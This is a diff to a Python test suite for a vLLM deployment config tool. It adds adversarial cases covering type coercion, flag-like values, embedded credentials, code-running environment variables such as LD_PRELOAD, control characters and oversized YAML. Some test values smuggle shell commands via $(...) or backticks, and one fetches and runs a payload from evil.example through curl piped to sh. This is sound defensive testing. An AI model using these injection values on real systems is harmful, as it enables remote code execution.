@@ -97,7 +97,7 @@ def _safe(id: str, **changes: Any) -> Case:
 def cases() -> list[Case]:
     out = [
         # ---- unsafe output: injections must not execute, argv must arrive intact, YAML must not grow objects
-        _safe("extra_args --x=$(...)", **{"roles.0.extra_args": [f"--x=$({PWN})"]}),
+        _safe("extra_args --x=$(...)", **{"roles.0.extra_args": [f"--revision=$({PWN})"]}),
         _safe("extra_args value $(...)", **{"roles.0.extra_args": ["--chat-template", f"$({PWN})"]}),
         _safe("extra_args backticks", **{"roles.0.extra_args": ["--chat-template", f"`{PWN}`"]}),
         _safe("extra_env key A=1;cmd;B", **{"roles.0.extra_env": {f"A=1;{PWN};B": "1"}}),
@@ -318,6 +318,182 @@ def cases() -> list[Case]:
             blame="too large",
         ),
     ]
+    return out
+
+
+# ----------------------------------------------------------------------------------------------
+# Round 3 (issue #32): several variants of each class; kept apart from cases() so the counts of #20 stay as recorded
+
+CONTROL_CHARS = __import__("re").compile("[\x00-\x1f\x7f-\x9f\u2028\u2029]")
+KEY_TAIL = "AbCdEf0123456789GhIjKlMn"
+"""The part of every credential in these cases that no output may show (a masked prefix is 3 characters)."""
+
+
+def _exit2(cls: str, id: str, blame: str | None = None, **changes: Any) -> Case:
+    return Case(cls, id, "exit2", doc=topo(**changes), blame=blame)
+
+
+def round3_cases() -> list[Case]:
+    out = []
+    # 1. silent coercion: YAML booleans, floats and strings are not integers; versions parsed fully
+    for path, value in [
+        ("roles.0.tp", True),
+        ("roles.0.tp", False),
+        ("serving.port", True),
+        ("roles.0.max_num_seqs", 16.0),
+        ("roles.0.max_num_seqs", "16"),
+        ("cluster.gpus_per_node", "1"),
+        ("cluster.nodes", True),
+        ("roles.0.gpu_memory_utilization", True),
+        ("roles.0.eplb.window_size", True),
+        ("router.port", False),
+        ("vllm.ready_timeout_s", 300.5),
+        ("roles.0.enforce_eager", 1),
+        ("roles.0.enforce_eager", "yes"),
+    ]:
+        blame = path.replace(".0.", "[0].").replace("cluster.nodes", "cluster.nodes")
+        out.append(_exit2("coercion", f"{path}={value!r}", blame, **{path: value}))
+    for version in ["0.32.banana", "0.32.0.1", "0.32.0 ", "v0.32.x", "0.32.0-rc1", "0", "0.32.0+", "00.32.0.post"]:
+        out.append(_exit2("coercion", f"vllm.version {version!r}", "vllm.version", **{"vllm.version": version}))
+    out.append(_exit2("coercion", "vllm.version as a YAML float", "vllm.version", **{"vllm.version": 0.32}))
+    # 2. flags the chosen vLLM lacks; values vLLM would read as flags
+    for args in (
+        ["--eplb-window-size", "5"],
+        ["--eplb-window-size=5"],
+        ["--no-such-option"],
+        ["--chat-template", "x", "--bogus_flag=1"],
+        ["-zz"],
+    ):
+        out.append(_exit2("flags", f"extra_args {args}", "is not an option of vLLM", **{"roles.0.extra_args": args}))
+    for path, value in [
+        ("model.path", "--enforce-eager"),
+        ("model.path", "-"),
+        ("model.served_model_name", "-tp"),
+        ("model.served_model_name", "--port=1"),
+        ("cluster.nodes.0.address", "--help"),
+        ("serving.host", "-h"),
+        ("vllm.python", "-c"),
+        ("router.command", "--x"),
+    ]:
+        out.append(_exit2("flags", f"{path}={value}", "starts with '-'", **{path: value}))
+    # 3. credentials anywhere: refused, never shown beyond a 3-character prefix
+    for env in (
+        {"HUGGING_FACE_HUB_TOKEN": "hf_" + KEY_TAIL},
+        {"HF_TOKEN_X": "plain"},
+        {"OPENAI_API_KEY": "sk-" + KEY_TAIL},
+        {"MY_VAR": "ghp_" + KEY_TAIL},
+        {"MY_VAR": KEY_TAIL},
+        {"WANDB_API_KEY": "x" + KEY_TAIL},
+    ):
+        out.append(_exit2("secrets", f"extra_env {sorted(env)[0]}", "SecretRef", **{"roles.0.extra_env": env}))
+    for args in (
+        ["--hf-token", "hf_" + KEY_TAIL],
+        ["--api-key=sk-" + KEY_TAIL],
+        ["--api-key", "short"],
+        ["--chat-template", KEY_TAIL],
+        ["--revision=xoxb-" + KEY_TAIL],
+    ):
+        out.append(_exit2("secrets", f"extra_args {args[0]}", "SecretRef", **{"roles.0.extra_args": args}))
+    out.append(
+        _exit2("secrets", "router --api-key", "SecretRef", **{"router.extra_args": ["--api-key", "sk-" + KEY_TAIL]})
+    )
+    # 4. variables that make a shell / ld.so / python run code
+    for name in (
+        "BASH_ENV",
+        "ENV",
+        "PROMPT_COMMAND",
+        "SHELLOPTS",
+        "BASHOPTS",
+        "PS4",
+        "IFS",
+        "CDPATH",
+        "LD_PRELOAD",
+        "LD_LIBRARY_PATH",
+        "LD_AUDIT",
+        "LD_BIND_NOW",
+        "GCONV_PATH",
+        "PYTHONSTARTUP",
+        "PYTHONHOME",
+    ):
+        out.append(
+            _exit2("startup env", name, name, **{"roles.0.extra_env": {name: f"$({PWN})", "NCCL_DEBUG": "INFO"}})
+        )
+    # 6. control characters in arguments: render --format shell starts what --json shows
+    for ch in ("\x1b[31m", "\r", "\x07", "\x7f", "\x85", "\u2028", "\x1b]0;title\x07", "a\tb\nc"):
+        out.append(
+            Case(
+                "control chars",
+                f"extra_args {ch!r}",
+                "safe",
+                doc=topo(**{"roles.0.extra_args": ["--chat-template", f"x{ch}y"]}),
+                calls=SAFE_CALLS,
+            )
+        )
+        out.append(
+            Case(
+                "control chars",
+                f"extra_env {ch!r}",
+                "safe",
+                doc=topo(**{"roles.0.extra_env": {"MY_VAR": f"x{ch}y"}}),
+                calls=SAFE_CALLS,
+            )
+        )
+    # 7. crashes: integers longer than Python converts
+    for path in ("roles.0.tp", "serving.port", "cluster.nodes", "description"):
+        text = yaml.safe_dump(topo(**{path: 7}), sort_keys=False)
+        key = path.rsplit(".", 1)[-1]
+        raw = text.replace(f"{key}: 7\n", f"{key}: {'9' * 5000}\n", 1).encode()
+        out.append(Case("crash", f"5000-digit {path}", "exit2", raw=raw, blame="too long"))
+    out.append(Case("crash", "negative 6000-digit", "exit2", raw=b"name: x\nroles: [{tp: -" + b"1" * 6000 + b"}]\n"))
+    # 8. size: what exec cannot carry is refused at plan time; parse cost bounded before objects are built
+    big_env = {f"V{i}": "x" * 60000 for i in range(40)}
+    out.append(_exit2("size", "2.4 MB of extra_env", "ARG_MAX", **{"roles.0.extra_env": big_env}))
+    out.append(
+        _exit2("size", "extra_args 1.2 MB", "ARG_MAX", **{"roles.0.extra_args": ["--chat-template", "x" * 60000] * 20})
+    )
+    out.append(
+        _exit2("size", "one 140 kB arg", "MAX_ARG_STRLEN", **{"roles.0.extra_args": ["--revision", "€" * 50000]})
+    )
+    out.append(_exit2("size", "one 140 kB env value", "MAX_ARG_STRLEN", **{"roles.0.extra_env": {"V": "€" * 50000}}))
+    out.append(Case("size", "44 MB of list items", "exit2", raw=b"name: t\nx:\n" + b"- 1\n" * 11_000_000, timeout=5))
+    out.append(
+        Case("size", "3 MB flow list", "exit2", raw=b"name: t\nx: [" + b"1," * 1_500_000 + b"]\n", blame="YAML nodes")
+    )
+    out.append(Case("size", "nested flow lists", "exit2", raw=b"x: [" + b"[1]," * 900_000 + b"]\n", blame="YAML nodes"))
+    # 9. messages: a bad extra_env key blames the key; merge keys are standard YAML and accepted
+    for key in ("A=1;x", "1ABC", "A B", "$(x)"):
+        out.append(
+            _exit2(
+                "messages",
+                f"extra_env key {key!r}",
+                "the key (not its value)",
+                **{"roles.0.extra_env": {key: "1", "OK": "1"}},
+            )
+        )
+    for payload in (f"$({PWN})", "a;b", "$(curl${IFS}http://evil.example/x0123456789abcdefghijKLM|sh)"):
+        out.append(
+            _exit2("messages", f"api_key_secret {payload[:20]!r}", "neither", **{"serving.api_key_secret": payload})
+        )
+    base = yaml.safe_dump({k: v for k, v in BASE.items() if k != "roles"}, sort_keys=False)
+    role = "{name: serve, kind: mixed, nodes: 1, max_model_len: 1024, enforce_eager: true, kv_cache_gib: 1}"
+    out.append(
+        Case(
+            "messages",
+            "YAML merge key",
+            "safe",
+            raw=(base + f"roles:\n  - <<: {role}\n    max_num_seqs: 16\n").encode(),
+            calls=SAFE_CALLS,
+        )
+    )
+    out.append(
+        Case(
+            "messages",
+            "YAML merge key with an alias, overridden",
+            "safe",
+            raw=(base + f"roles:\n  - <<: &r {role}\n    max_num_seqs: 8\n    kv_cache_gib: 2\n").encode(),
+            calls=SAFE_CALLS,
+        )
+    )
     return out
 
 
